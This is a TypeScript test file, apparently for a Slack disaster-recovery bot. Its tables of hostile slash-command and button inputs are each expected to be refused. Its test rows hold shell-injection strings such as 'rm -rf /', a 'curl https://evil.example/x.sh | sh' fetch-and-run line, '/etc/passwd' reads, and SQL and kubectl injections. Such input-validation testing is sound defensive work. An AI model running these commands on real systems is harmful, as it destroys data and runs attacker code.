/**
 * Hostile and malformed input, table-driven: slash commands (injection in
 * names, huge text, unicode tricks, invalid times, unknown runbooks…), forged
 * or expired signatures, forged button values and malformed form submissions.
 * Each row gets a clear refusal; afterwards nothing was queued, stored,
 * created or posted, and the bot still answers `help` and round-trips `ping`.
 */
import { Queue } from 'bullmq';
import { Redis } from 'ioredis';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { CLOCK_JOB } from '../../src/incidents/worker.ts';
import { QUEUE_NAMES } from '../../src/queue/names.ts';
import { RunStore } from '../../src/runs/store.ts';
import { BOT_TOKEN, startTestBot, type TestBot } from '../support/bot.ts';
import { SHIPPED_COMMANDS } from '../support/engine.ts';
import { FakeSlack } from '../support/fake-slack.ts';
import { jobsQueued, TEST_REDIS_URL } from '../support/redis.ts';
import {
  blockActionBody,
  sendBlockAction,
  sendSigned,
  sendSlashCommand,
  sendViewSubmission,
  sign,
  SIGNING_SECRET,
  type SlackResponse,
  slashCommandBody,
  viewSubmissionBody,
} from '../support/slack-requests.ts';

const ALICE = 'U0ALICE001';
/** A run channel (SLACK_RUN_CHANNELS) with no incident. */
const RUN_CHANNEL = 'C0INCIDENT1';
/** Neither a run channel nor an incident's channel. */
const OTHER_CHANNEL = 'C0RANDOM01';

const KB10 = 10 * 1024;
const HELP_HINT = 'Type `/dr help` to see every command.';

// ---------------------------------------------------------------------------
// Slash commands: the refusal is the ephemeral ack itself.
// ---------------------------------------------------------------------------

interface SlashRow {
  name: string;
  text: string;
  channel?: string;
  /** Every fragment must appear in the answer. */
  expect: string[];
}

const unknown = (word: string, suggestion?: string): string[] =>
  suggestion ? [`Unknown command \`${word}\`. Did you mean \`/dr ${suggestion}\`?`] : [`Unknown command \`${word}\`. ${HELP_HINT}`];
const badParam = (runbook: string, fragment: string): string[] => [`Parameters for ${runbook} are not valid:`, fragment];
const notInThisChannel = (runbook: string): string[] => [`\`${runbook}\` changes production, so it may be requested only in`, 'Nothing was requested.'];

const SLASH_ROWS: SlashRow[] = [
  // Unknown subcommands: typos, garbage, huge text, control characters, unicode tricks.
  { name: 'typo pnig', text: 'pnig', expect: unknown('pnig', 'ping') },
  { name: 'typo restroe', text: 'restroe db prod-aurora --latest', expect: unknown('restroe', 'restore') },
  { name: 'typo rollbak', text: 'rollbak api-gateway', expect: unknown('rollbak', 'rollback') },
  { name: 'typo declar', text: 'declar region-outage "API down"', expect: unknown('declar', 'declare') },
  { name: 'nonsense word', text: 'xyzzy', expect: unknown('xyzzy') },
  { name: '10 kB single word', text: 'A'.repeat(KB10), expect: [`Unknown command \`${'A'.repeat(40)}…\`.`, HELP_HINT] },
  { name: '10 kB of arguments to ping', text: `ping ${'x '.repeat(KB10 / 2)}`, expect: ['`ping` takes no arguments. Usage: `/dr ping`'] },
  { name: 'NUL after a command', text: 'ping\u0000', expect: unknown('ping\u0000', 'ping') },
  { name: 'NUL alone', text: '\u0000', expect: unknown('\u0000') },
  { name: 'BEL and backspace before restore', text: '\u0007\u0008restore', expect: unknown('\u0007\u0008restore', 'restore') },
  { name: 'ANSI escape sequence', text: '\u001b[31mhelp', expect: ['Unknown command `\u001b[31mhelp`.'] },
  { name: 'CRLF smuggling a second line', text: 'ping\r\nrm -rf /', expect: ['`ping` takes no arguments.'] },
  { name: 'RTL override reversing a word', text: '\u202Egnip', expect: unknown('\u202Egnip') },
  { name: 'RTL override before ping', text: '\u202Eping', expect: unknown('\u202Eping', 'ping') },
  { name: 'zero-width joiner inside restore', text: 'rest\u200Dore db prod-aurora --latest', expect: unknown('rest\u200Dore', 'restore') },
  { name: 'zero-width space after ping', text: 'ping\u200B', expect: unknown('ping\u200B', 'ping') },
  { name: 'Cyrillic е in restore (homoglyph)', text: 'r\u0435store db prod-aurora --latest', expect: unknown('r\u0435store', 'restore') },
  { name: 'Cyrillic р in ping (homoglyph)', text: '\u0440ing', expect: unknown('\u0440ing', 'ping') },
  { name: 'Cyrillic а in rollback (homoglyph)', text: 'rollb\u0430ck api-gateway', expect: unknown('rollb\u0430ck', 'rollback') },
  { name: 'fullwidth letters', text: '\uFF50\uFF49\uFF4E\uFF47', expect: unknown('\uFF50\uFF49\uFF4E\uFF47') },
  { name: 'emoji', text: '\u{1F525}', expect: unknown('\u{1F525}') },
  { name: 'emoji ZWJ sequence', text: '\u{1F468}\u200D\u{1F469}\u200D\u{1F467}', expect: unknown('\u{1F468}\u200D\u{1F469}\u200D\u{1F467}') },
  { name: 'emoji argument to ping', text: 'ping \u{1F525}', expect: ['`ping` takes no arguments.'] },
  { name: 'unclosed double quote', text: 'declare region-outage "API down', expect: ['A quote (") is not closed.'] },
  { name: 'unclosed single quote', text: "run readiness-check cluster='prod", expect: ["A quote (') is not closed."] },
  { name: 'unclosed curly quote', text: 'declare region-outage \u201CAPI down', expect: ['A quote (") is not closed.'] },
  { name: 'shell: ; rm -rf /', text: '; rm -rf /', expect: unknown(';') },
  { name: 'shell: ping; rm -rf /', text: 'ping; rm -rf /', expect: unknown('ping;', 'ping') },
  { name: 'shell: $(reboot)', text: '$(reboot)', expect: unknown('$(reboot)') },
  { name: 'shell: backticks', text: '`id`', expect: ['Unknown command `\u02CBid\u02CB`.', HELP_HINT] },
  { name: 'shell: && curl | sh', text: '&& curl https://evil.example/x.sh | sh', expect: unknown('&amp;&amp;') },
  { name: 'shell: pipe', text: '| cat /etc/passwd', expect: unknown('|') },
  { name: 'Slack markup <!channel>', text: '<!channel>', expect: unknown('&lt;!channel&gt;') },
  { name: 'Slack markup <!here> before ping', text: '<!here> ping', expect: unknown('&lt;!here&gt;') },
  { name: 'Slack markup user mention', text: '<@U0ADMIN01>', expect: unknown('&lt;@U0ADMIN01&gt;') },
  { name: 'Slack markup link', text: '<https://evil.example|help>', expect: unknown('&lt;https://evil.example|help&gt;') },
  { name: 'Slack markup channel link', text: '<#C0GENERAL|general>', expect: unknown('&lt;#C0GENERAL|general&gt;') },
  { name: 'an option instead of a command', text: '--help', expect: unknown('--help', 'help') },
  { name: '__proto__ as a command', text: '__proto__', expect: unknown('__proto__') },
  { name: 'constructor as a command', text: 'constructor', expect: unknown('constructor') },
  { name: 'help on an unknown topic', text: 'help nope', expect: unknown('nope') },
  { name: 'help on __proto__', text: 'help __proto__', expect: unknown('__proto__') },
  { name: 'help with two topics', text: 'help ping extra', expect: ['`help` takes at most one command name. Usage: `/dr help [command]`'] },
  { name: 'runs with an argument', text: 'runs all', expect: ['`runs` takes no arguments. Usage: `/dr runs`'] },
  { name: 'runbooks with an option', text: 'runbooks --verbose', expect: ['`runbooks` takes no arguments.'] },
  { name: 'check with an argument', text: 'check --now', expect: ['`check` takes nothing (run a check now) or `status` (the latest results), not `--now`. Usage: `/dr check [status]`'] },
  { name: 'ping with <!channel>', text: 'ping <!channel>', expect: ['`ping` takes no arguments.'] },

  // restore db / restore cluster: bad names, bad times, bad options.
  { name: 'restore alone', text: 'restore', expect: ['`restore` needs what to restore: db or cluster.'] },
  { name: 'restore an unknown kind', text: 'restore disk prod', expect: ['`restore` restores db or cluster, not `disk`.'] },
  { name: 'restore db without a cluster', text: 'restore db', expect: ['`restore` needs the cluster to restore from.'] },
  { name: 'restore db ../etc', text: 'restore db ../etc --latest', expect: badParam('restore-database-pitr', '`cluster`: `../etc` does not match') },
  { name: 'restore db prod;drop', text: 'restore db prod;drop --latest', expect: badParam('restore-database-pitr', '`cluster`: `prod;drop` does not match') },
  { name: 'restore db quoted SQL injection', text: 'restore db "prod-aurora; DROP TABLE runs" --latest', expect: badParam('restore-database-pitr', '`cluster`: `prod-aurora; DROP TABLE runs` does not match') },
  { name: 'restore db 200-char cluster', text: `restore db ${'a'.repeat(200)} --latest`, expect: badParam('restore-database-pitr', `\`cluster\`: \`${'a'.repeat(60)}…\` does not match`) },
  { name: 'restore db Cyrillic о in cluster', text: 'restore db pr\u043Ed-aurora --latest', expect: badParam('restore-database-pitr', '`cluster`: `pr\u043Ed-aurora` does not match') },
  { name: 'restore db NUL in cluster', text: 'restore db prod\u0000 --latest', expect: badParam('restore-database-pitr', '`cluster`: `prod\u0000` does not match') },
  { name: 'restore db $(whoami)', text: 'restore db $(whoami) --latest', expect: badParam('restore-database-pitr', '`cluster`: `$(whoami)` does not match') },
  { name: 'restore db without a time', text: 'restore db prod-aurora', expect: ['needs exactly one of --latest, --to <time> or --snapshot <id|latest>'] },
  { name: 'restore db --latest and --to', text: 'restore db prod-aurora --latest --to 15m ago', expect: ['needs exactly one of --latest, --to <time> or --snapshot <id|latest>'] },
  { name: 'restore db --snapshot and --latest', text: 'restore db prod-aurora --snapshot latest --latest', expect: ['needs exactly one of --latest, --to <time> or --snapshot <id|latest>'] },
  { name: 'restore db --to yesterday', text: 'restore db prod-aurora --to yesterday', expect: badParam('restore-database-pitr', '`to`: `yesterday` is not a time: use ISO-8601 with a zone') },
  { name: 'restore db --to 2026-13-45T99:00Z', text: 'restore db prod-aurora --to 2026-13-45T99:00Z', expect: badParam('restore-database-pitr', '`to`: `2026-13-45T99:00Z` is not a real date and time') },
  { name: 'restore db --to February 30th', text: 'restore db prod-aurora --to 2026-02-30T10:00:00Z', expect: badParam('restore-database-pitr', '`to`: `2026-02-30T10:00:00Z` is not a real date and time') },
  { name: 'restore db --to 15x ago', text: 'restore db prod-aurora --to 15x ago', expect: badParam('restore-database-pitr', '`to`: `15x ago` is not a time') },
  { name: 'restore db --to -5m ago', text: 'restore db prod-aurora --to -5m ago', expect: badParam('restore-database-pitr', '`to`: `-5m ago` is not a time') },
  { name: 'restore db --to without a zone', text: 'restore db prod-aurora --to 2026-11-15T10:00:00', expect: badParam('restore-database-pitr', '`to`: `2026-11-15T10:00:00` has no time zone') },
  {
    name: 'restore db --to a relative time before the start of time',
    text: 'restore db prod-aurora --to 999999999d ago',
    expect: badParam('restore-database-pitr', '`to`: '),
  },
  { name: 'restore db --to with no value', text: 'restore db prod-aurora --to', expect: ['`--to` needs a value.'] },
  { name: 'restore db --to followed by a flag', text: 'restore db prod-aurora --to --latest', expect: ['`--to` needs a value.'] },
  { name: 'restore db --to twice', text: 'restore db prod-aurora --to 15m ago --to 1h ago', expect: ['`--to` is given twice.'] },
  { name: 'restore db em dash instead of --', text: 'restore db prod-aurora \u2014to 15m ago', expect: ['`restore` takes one cluster; unexpected `\u2014to`'] },
  { name: 'restore db unknown option', text: 'restore db prod-aurora --force', expect: ['Unknown option `--force`. Options: `--to`, `--snapshot`, `--latest`, `--dry-run`.'] },
  { name: 'restore db --snapshot ../x', text: 'restore db prod-aurora --snapshot ../x', expect: badParam('restore-database-snapshot', '`snapshot`: `../x` does not match') },
  { name: 'restore cluster --backup ../../etc', text: 'restore cluster --backup ../../etc', expect: badParam('restore-cluster', '`backup`: `../../etc` does not match') },
  { name: 'restore cluster with a positional', text: 'restore cluster everything', expect: ['`restore` takes only --backup and --schedule.'] },
  { name: 'restore cluster --schedule with a space', text: 'restore cluster --schedule "daily full"', expect: badParam('restore-cluster', '`schedule`: `daily full` does not match') },

  // rollback: bad deployment names, revisions, namespaces.
  { name: 'rollback alone', text: 'rollback', expect: ['`rollback` needs the deployment.'] },
  { name: 'rollback a path', text: 'rollback ../kube-system/api', expect: badParam('rollback-deployment', '`deployment`: `../kube-system/api` does not match') },
  { name: 'rollback kubectl injection', text: 'rollback "api; kubectl delete ns production"', expect: badParam('rollback-deployment', '`deployment`: `api; kubectl delete ns production` does not match') },
  { name: 'rollback upper-case name', text: 'rollback API-Gateway', expect: badParam('rollback-deployment', '`deployment`: `API-Gateway` does not match') },
  { name: 'rollback -n ../kube-system', text: 'rollback api-gateway -n ../kube-system', expect: badParam('rollback-deployment', '`namespace`: `../kube-system` does not match') },
  { name: 'rollback -n upper case', text: 'rollback api-gateway -n KUBE-SYSTEM', expect: badParam('rollback-deployment', '`namespace`: `KUBE-SYSTEM` does not match') },
  { name: 'rollback --namespace with a space', text: 'rollback api-gateway --namespace "prod uction"', expect: badParam('rollback-deployment', '`namespace`: `prod uction` does not match') },
  { name: 'rollback negative revision', text: 'rollback api-gateway --to-revision -1', expect: badParam('rollback-deployment', '`toRevision`: -1 is below the minimum 0') },
  { name: 'rollback fractional revision', text: 'rollback api-gateway --to-revision 1.5', expect: badParam('rollback-deployment', '`toRevision`: `1.5` is not a whole number') },
  { name: 'rollback word revision', text: 'rollback api-gateway --to-revision five', expect: badParam('rollback-deployment', '`toRevision`: `five` is not a number') },
  { name: 'rollback 400-digit revision', text: `rollback api-gateway --to-revision ${'9'.repeat(400)}`, expect: badParam('rollback-deployment', '`toRevision`: `99999') },
  {
    name: 'rollback revision beyond the exact integers',
    text: 'rollback api-gateway --to-revision 99999999999999999999',
    expect: badParam('rollback-deployment', '`toRevision`: '),
  },
  { name: 'rollback revision twice', text: 'rollback api-gateway --to-revision 1 --to-revision 2', expect: ['`--to-revision` is given twice.'] },
  { name: 'rollback two deployments', text: 'rollback api-gateway worker', expect: ['`rollback` takes one deployment.'] },
  { name: 'rollback -n without a value', text: 'rollback api-gateway -n', expect: ['`-n` needs a value.'] },
  { name: 'rollback --to-revision= empty', text: 'rollback api-gateway --to-revision=', expect: ['`--to-revision` needs a value.'] },
  { name: 'rollback unknown option', text: 'rollback api-gateway --yes', expect: ['Unknown option `--yes`.'] },
  { name: 'rollback outside a run channel', text: 'rollback api-gateway', channel: OTHER_CHANNEL, expect: notInThisChannel('rollback-deployment') },
  // healthUrl has no default (commands/README.md); the shortcuts cannot give it, so these go through `run`.
  { name: 'failover outside a run channel', text: 'run failover-region healthUrl=http://127.0.0.1:9/health', channel: OTHER_CHANNEL, expect: notInThisChannel('failover-region') },
  { name: 'restore db outside a run channel', text: 'run restore-database-pitr cluster=prod-aurora healthUrl=http://127.0.0.1:9/health', channel: OTHER_CHANNEL, expect: notInThisChannel('restore-database-pitr') },
  { name: 'drill outside a run channel', text: 'drill', channel: OTHER_CHANNEL, expect: notInThisChannel('dr-drill') },
  { name: 'failover to target mars', text: 'failover --target mars', expect: badParam('failover-region', '`target`: there is no target `mars` (targets: default)') },
  { name: 'failover target with shell', text: 'failover --target "dr; rm -rf /"', expect: badParam('failover-region', '`target`: there is no target `dr; rm -rf /` (targets: default)') },
  { name: 'failover to a region, as before targets', text: 'failover --region us-west-2', expect: ['`failover` acts on the DR target, which names its region: give `--target <name>`.'] },
  { name: 'failover with a positional', text: 'failover us-west-2', expect: ['`failover` takes only --target.'] },
  { name: 'drill --backup path', text: 'drill --backup ../../etc/passwd', expect: badParam('dr-drill', '`backup`: `../../etc/passwd` does not match') },
  { name: 'drill with a positional', text: 'drill now', expect: ['`drill` takes only --backup.'] },

  // run: unknown runbooks, bad key=value parameters.
  { name: 'run alone', text: 'run', expect: ['`run` needs a runbook id (see `runbooks`).'] },
  { name: 'run a misspelt runbook', text: 'run restore-databse-pitr cluster=prod-aurora', expect: ['There is no runbook `restore-databse-pitr`. Did you mean `restore-database-pitr`?'] },
  { name: 'run a partial runbook id', text: 'run rollback', expect: ['There is no runbook `rollback`. Did you mean `rollback-deployment`?'] },
  { name: 'run a path', text: 'run ../../etc/passwd', expect: ['There is no runbook `../../etc/passwd`.', 'Runbooks: az-evacuate, az-extend-shift, az-restore, '] },
  { name: 'run __proto__', text: 'run __proto__', expect: ['There is no runbook `__proto__`.'] },
  { name: 'run on an unknown target', text: 'run readiness-check target=prod-west', expect: ['`target`: there is no target `prod-west` (targets: default)'] },
  { name: 'run on a target shaped like a path', text: 'run restore-cluster target=../dr healthUrl=https://a.example/h', expect: ['`target`: there is no target `../dr` (targets: default)'] },
  { name: 'restore into a cluster that is no EKS name', text: 'run restore-cluster cluster=eks;rm healthUrl=https://a.example/h', expect: ['`cluster`: `eks;rm` does not match'] },
  { name: 'run constructor', text: 'run constructor', expect: ['There is no runbook `constructor`.'] },
  { name: 'run a 5000-char runbook id', text: `run ${'x'.repeat(5000)}`, expect: [`There is no runbook \`${'x'.repeat(64)}\`.`] },
  { name: 'run with an unknown parameter', text: 'run readiness-check foo=bar', expect: badParam('readiness-check', '`foo` is not a parameter of readiness-check (parameters: target, cluster, drTarget, drCluster, drRegion, stateBucket, dnsRecord, apiTimeoutSeconds)') },
  { name: 'run with a parameter missing =', text: 'run readiness-check cluster', expect: ['`run` takes parameters as key=value; `cluster` is not one.'] },
  { name: 'run with an empty value', text: 'run readiness-check cluster=', expect: badParam('readiness-check', '`cluster`: must not be empty') },
  { name: 'run with a 10 kB value', text: `run readiness-check cluster=${'a'.repeat(KB10)}`, expect: badParam('readiness-check', `\`cluster\`: \`${'a'.repeat(60)}…\` does not match`) },
  { name: 'run with shell in a value', text: 'run readiness-check cluster="prod; rm -rf /"', expect: badParam('readiness-check', '`cluster`: `prod; rm -rf /` does not match') },
  { name: 'run with an unknown option', text: 'run readiness-check --force', expect: ['Unknown option `--force`. Options: `--dry-run`.'] },
  { name: 'run with a key starting with a digit', text: 'run readiness-check 1cluster=x', expect: ['`run` takes parameters as key=value; `1cluster=x` is not one.'] },
  { name: 'run with key constructor (prototype member)', text: 'run readiness-check constructor=x', expect: badParam('readiness-check', '`constructor` is not a parameter of readiness-check') },
  { name: 'run with key __proto__', text: 'run readiness-check __proto__=x', expect: badParam('readiness-check', '`__proto__` is not a parameter of readiness-check') },
  { name: 'run with an integer above its maximum', text: 'run failover-region nodes=500', expect: badParam('failover-region', '`nodes`: 500 is above the maximum 200') },
  { name: 'run with a word for an integer', text: 'run failover-region nodes=many', expect: badParam('failover-region', '`nodes`: `many` is not a number') },
  { name: 'run with a value outside an enum', text: 'run failover-region method=nuke', expect: badParam('failover-region', '`method`: `nuke` is not one of auto, promote-replica, global-failover') },
  { name: 'run without a required parameter', text: 'run restore-database-pitr', expect: badParam('restore-database-pitr', '`cluster` is required') },
  { name: 'run with a word for a time', text: 'run restore-database-pitr cluster=prod-aurora to=tomorrow', expect: badParam('restore-database-pitr', '`to`: `tomorrow` is not a time') },
  { name: 'run with Infinity for an integer', text: 'run rollback-deployment deployment=api toRevision=1e400', expect: badParam('rollback-deployment', '`toRevision`: `1e400` is not a number') },
  { name: 'run with a javascript: URL', text: 'run restore-database-pitr cluster=prod-aurora healthUrl=javascript:alert(1)', expect: badParam('restore-database-pitr', '`healthUrl`: `javascript:alert(1)` does not match') },
  { name: 'run with shell after a wildcard', text: 'run restore-database-pitr cluster=prod-aurora deployments="*; rm"', expect: badParam('restore-database-pitr', '`deployments`: `*; rm` does not match') },

  // show / cancel / audit: malformed and unknown run ids.
  { name: 'show a path', text: 'show r../../x', expect: ['`show` needs a run id like r7k2m9x4, not `r../../x`.'] },
  { name: 'show *', text: 'show *', expect: ['`show` needs a run id like r7k2m9x4, not `*`.'] },
  { name: 'show a 65-char id', text: `show ${'r'.repeat(65)}`, expect: [`\`show\` needs a run id like r7k2m9x4, not \`${'r'.repeat(40)}\`.`] },
  { name: 'show alone', text: 'show', expect: ["`show` needs the run id (shown on the run's message)."] },
  { name: 'show an unknown run', text: 'show rghost001', expect: ['There is no run `rghost001`. List recent runs with `runs`.'] },
  { name: 'show a 64-char unknown run', text: `show ${'r'.repeat(64)}`, expect: [`There is no run \`${'r'.repeat(64)}\`.`] },
  { name: 'show two runs', text: 'show r1 r2', expect: ['`show` takes a run id and, for one page of its steps, `page <n>`.'] },
  { name: 'show page 0', text: 'show r1 page 0', expect: ['`show` needs a page number like 2, not `0`.'] },
  { name: 'show page -1', text: 'show r1 page -1', expect: ['`show` needs a page number like 2, not `-1`.'] },
  { name: 'show page 1e3', text: 'show r1 page 1e3', expect: ['`show` needs a page number like 2, not `1e3`.'] },
  { name: 'show page without a number', text: 'show r1 page', expect: ['`show` takes a run id and, for one page of its steps, `page <n>`.'] },
  { name: 'show page of an unknown run', text: 'show rghost001 page 2', expect: ['There is no run `rghost001`. List recent runs with `runs`.'] },
  { name: 'show a mention', text: 'show <@U0BOB00001>', expect: ['`show` needs a run id like r7k2m9x4, not `&lt;@U0BOB00001&gt;`.'] },
  { name: 'audit an unknown run', text: 'audit rghost001', expect: ['There is no run `rghost001`.'] },
  { name: 'audit a path', text: 'audit ../../etc/passwd', expect: ['`audit` needs a run id like r7k2m9x4, not `../../etc/passwd`.'] },
  { name: 'audit $(id)', text: 'audit $(id)', expect: ['`audit` needs a run id like r7k2m9x4, not `$(id)`.'] },
  { name: 'cancel an unknown run', text: 'cancel rghost001 wrong region', expect: ['There is no run `rghost001`.'] },
  { name: 'cancel *', text: 'cancel *', expect: ['`cancel` needs a run id like r7k2m9x4, not `*`.'] },
  { name: 'cancel alone', text: 'cancel', expect: ["`cancel` needs the run id (shown on the run's message)."] },
  { name: 'cancel a url-encoded path', text: 'cancel r%2F..%2Fx', expect: ['`cancel` needs a run id like r7k2m9x4, not `r%2F..%2Fx`.'] },

  // declare: scenario, title, severity, services, impact.
  { name: 'declare an unknown scenario', text: 'declare nope "API down"', expect: ['There is no scenario `nope`.', 'Scenarios (from the DR plan): single-az-failure, region-outage,'] },
  { name: 'declare a misspelt scenario', text: 'declare region-outge "API down"', expect: ['There is no scenario `region-outge`. Did you mean `region-outage`?'] },
  { name: 'declare a scenario that mentions @channel', text: 'declare <!channel> "API down"', expect: ['There is no scenario `&lt;!channel&gt;`.'] },
  { name: 'declare a service that mentions a user', text: 'declare region-outage "API down" --services <@U0BOB00001>', expect: ['`&lt;@U0BOB00001&gt;` is not a service name'] },
  { name: 'declare a homoglyph scenario', text: 'declare r\u0435gion-outage "API down"', expect: ['There is no scenario `r\u0435gion-outage`. Did you mean `region-outage`?'] },
  { name: 'declare a path as scenario', text: 'declare ../etc "API down"', expect: ['There is no scenario `../etc`.'] },
  { name: 'declare an empty scenario', text: 'declare "" "API down"', expect: ['There is no scenario ``.'] },
  { name: 'declare a 2-char title', text: 'declare region-outage ab', expect: ['The title must be 3 to 150 characters'] },
  { name: 'declare a blank title', text: 'declare region-outage "   "', expect: ['The title must be 3 to 150 characters'] },
  { name: 'declare a 10 kB title', text: `declare region-outage ${'x'.repeat(KB10)}`, expect: ['The title must be 3 to 150 characters'] },
  { name: 'declare a 200-char title of words', text: `declare region-outage "${'word '.repeat(40)}"`, expect: ['The title must be 3 to 150 characters'] },
  { name: 'declare a bad severity', text: 'declare region-outage "API down" --severity sev0', expect: ['Severity is one of sev1, sev2, sev3.'] },
  { name: 'declare a severity with SQL', text: 'declare region-outage "API down" --severity "sev1; DROP"', expect: ['Severity is one of sev1, sev2, sev3.'] },
  { name: 'declare --severity without a value', text: 'declare region-outage "API down" --severity', expect: ['`--severity` needs a value.'] },
  { name: 'declare services with shell', text: 'declare region-outage "API down" --services "api;rm -rf /"', expect: ['`api;rm -rf /` is not a service name (letters, digits'] },
  { name: 'declare a path as a service', text: 'declare region-outage "API down" --services api,../etc', expect: ['`../etc` is not a service name'] },
  { name: 'declare a 41-char service', text: `declare region-outage "API down" --services ${'s'.repeat(41)}`, expect: [`\`${'s'.repeat(40)}\` is not a service name`] },
  { name: 'declare <!channel> as a service', text: 'declare region-outage "API down" --services <!channel>', expect: ['`&lt;!channel&gt;` is not a service name'] },
  { name: 'declare a 600-char impact', text: `declare region-outage "API down" --impact "${'i'.repeat(600)}"`, expect: ['Keep the impact under 500 characters'] },
  { name: 'declare an unknown option', text: 'declare region-outage "API down" --sev1', expect: ['Unknown option `--sev1`.'] },
  { name: 'declare without a title', text: 'declare region-outage', expect: ['`declare` needs a scenario and a title.'] },

  // status: outside an incident channel, unknown status, no message.
  { name: 'status alone', text: 'status', expect: ['`status` needs a status and what changed.'] },
  { name: 'status without a message', text: 'status resolved', expect: ['`status` needs a status and what changed.'] },
  { name: 'status outside an incident channel', text: 'status resolved "all good"', channel: OTHER_CHANNEL, expect: ['This channel has no incident.'] },
  { name: 'unknown status in a channel with no incident', text: 'status fixed "done"', expect: ['This channel has no incident.'] },
  { name: 'status <!channel>', text: 'status <!channel> "x y z"', expect: ['This channel has no incident.'] },
  { name: 'status with a 10 kB message', text: `status resolved ${'x'.repeat(KB10)}`, channel: OTHER_CHANNEL, expect: ['This channel has no incident.'] },

  // Placeholder-shaped parameters: only the planner makes ‹…›; a value holding ‹ or › is refused before anything is stored.
  { name: 'run with a placeholder as a value', text: 'run readiness-check cluster=‹x›', expect: badParam('readiness-check', '`cluster`: `‹x›` contains ‹ or ›, which are not allowed in a parameter value') },
  { name: 'run with a planner-shaped placeholder', text: 'run readiness-check cluster=‹steps.check.outputs.cluster›', expect: badParam('readiness-check', '`cluster`: `‹steps.check.outputs.cluster›` contains ‹ or ›') },
  { name: 'run with a placeholder inside a value', text: 'run readiness-check cluster=prod‹steps.a.outputs.b›', expect: badParam('readiness-check', '`cluster`: `prod‹steps.a.outputs.b›` contains ‹ or ›') },
  { name: 'run with a lone › in a value', text: 'run readiness-check cluster=prod›', expect: badParam('readiness-check', 'contains ‹ or ›') },
  { name: 'restore db --to a placeholder', text: 'restore db prod-aurora --to ‹steps.restore.outputs.restorePoint›', expect: badParam('restore-database-pitr', '`to`: `‹steps.restore.outputs.restorePoint›` contains ‹ or ›') },
  { name: 'rollback -n a placeholder', text: 'rollback api-gateway -n ‹steps.a.outputs.ns›', expect: badParam('rollback-deployment', '`namespace`: `‹steps.a.outputs.ns›` contains ‹ or ›') },

  // Code spans: a backtick in a user value cannot close the span; markup inside is escaped.
  { name: 'backtick breaking out of a command name', text: 'pi`ng <!channel>`', expect: ['Unknown command `pi\u02CBng`.'] },
  { name: 'backtick and <!channel> in a parameter value', text: 'run readiness-check cluster="a`<!channel>`b"', expect: badParam('readiness-check', '`cluster`: `a\u02CB&lt;!channel&gt;\u02CBb` does not match') },
  { name: 'backtick in a URL parameter', text: 'run readiness-check cluster="https://x.example/?q=`*bold*`"', expect: badParam('readiness-check', '`cluster`: `https://x.example/?q=\u02CB*bold*\u02CB` does not match') },
  { name: 'backtick in an unknown option', text: 'run readiness-check --f`orce', expect: ['Unknown option `--f\u02CBorce`.'] },
  { name: 'backtick in a run id', text: 'show r`<!here>`', expect: ['`show` needs a run id like r7k2m9x4, not `r\u02CB&lt;!here&gt;\u02CB`.'] },
  { name: 'mention as an extra positional', text: 'run readiness-check <@U0ADMIN01>', expect: ['`run` takes parameters as key=value; `&lt;@U0ADMIN01&gt;` is not one.'] },
  { name: 'link as what to restore', text: 'restore <https://evil.example|db>', expect: ['`restore` restores db or cluster, not `&lt;https://evil.example|db&gt;`.'] },
  { name: 'a 40-emoji command cut by grapheme', text: '\u{1F525}'.repeat(40), expect: [`Unknown command \`${'\u{1F525}'.repeat(20)}…\`.`] },
  { name: 'emoji ZWJ sequences cut whole', text: '\u{1F468}\u200D\u{1F469}\u200D\u{1F467}'.repeat(10), expect: [`Unknown command \`${'\u{1F468}\u200D\u{1F469}\u200D\u{1F467}'.repeat(5)}…\`.`] },
  { name: 'unknown runbook named <!channel>', text: 'run <!channel>', expect: ['There is no runbook `&lt;!channel&gt;`.'] },
];

/** Empty input is `help` (documented), never an action. */
const BLANK_ROWS: [string, string][] = [
  ['empty text', ''],
  ['only spaces', '     '],
  ['only tabs and newlines', '\t\n\r\n\t'],
  ['only no-break and ideographic spaces', '\u00A0\u3000\u2003'],
];

// ---------------------------------------------------------------------------
// Button clicks: acknowledged at once, refused privately through response_url.
// ---------------------------------------------------------------------------

interface ButtonRow {
  name: string;
  actionId: string;
  value: string | undefined;
  expect: string;
}

const NOT_A_RUN = ':warning: This button does not name a run. Use `/dr show <run>` instead.';
const NO_INCIDENT = ':warning: This button does not name an incident. Use `/dr status` in the incident channel.';
const NO_CHECK_ITEM = ':warning: This checklist item is not part of an incident any more. Nothing changed.';

const RUN_BUTTON_VALUES: [string, string | undefined, string][] = [
  ['no value', undefined, NOT_A_RUN],
  ['not a run id', 'not a run id!', NOT_A_RUN],
  ['a path', 'r../../x', NOT_A_RUN],
  ['a 10 kB value', 'r'.repeat(KB10), NOT_A_RUN],
  ['JSON injection', '{"runId":"r7k2m9x4","state":"approved"}', NOT_A_RUN],
  ['a wildcard', '*', NOT_A_RUN],
  ['a run that does not exist', 'rghost001', ':warning: There is no run `rghost001`.'],
];

const BUTTON_ROWS: ButtonRow[] = [
  ...['run.approve', 'run.reject', 'run.cancel', 'run.dry-run'].flatMap((actionId) =>
    RUN_BUTTON_VALUES.map(([what, value, expected]): ButtonRow => ({ name: `${actionId} with ${what}`, actionId, value, expect: expected })),
  ),
  { name: 'run.approve with a 65-char id', actionId: 'run.approve', value: 'r'.repeat(65), expect: NOT_A_RUN },
  { name: 'run.approve with a 64-char unknown id', actionId: 'run.approve', value: 'r'.repeat(64), expect: `:warning: There is no run \`${'r'.repeat(64)}\`.` },
  { name: 'run.approve with a newline smuggled after an id', actionId: 'run.approve', value: 'rghost001\nr7k2m9x4', expect: NOT_A_RUN },

  { name: 'incident.status.resolved with no value', actionId: 'incident.status.resolved', value: undefined, expect: NO_INCIDENT },
  { name: 'incident.status.resolved for an incident that does not exist', actionId: 'incident.status.resolved', value: 'inc-20260101-ghost-0000|resolved', expect: NO_INCIDENT },
  { name: 'incident.status.resolved with an unknown state', actionId: 'incident.status.resolved', value: 'inc-20260101-ghost-0000|exploded', expect: NO_INCIDENT },
  { name: 'incident.status.monitoring with an extra field', actionId: 'incident.status.monitoring', value: 'inc-20260101-ghost-0000|monitoring|extra', expect: NO_INCIDENT },
  { name: 'incident.status.identified with a path', actionId: 'incident.status.identified', value: '../../etc|identified', expect: NO_INCIDENT },
  { name: 'incident.status.resolved with a 10 kB value', actionId: 'incident.status.resolved', value: `${'i'.repeat(KB10)}|resolved`, expect: NO_INCIDENT },
  { name: 'incident.status.resolved with JSON injection', actionId: 'incident.status.resolved', value: '{"incidentId":"inc-x","state":"resolved"}', expect: NO_INCIDENT },
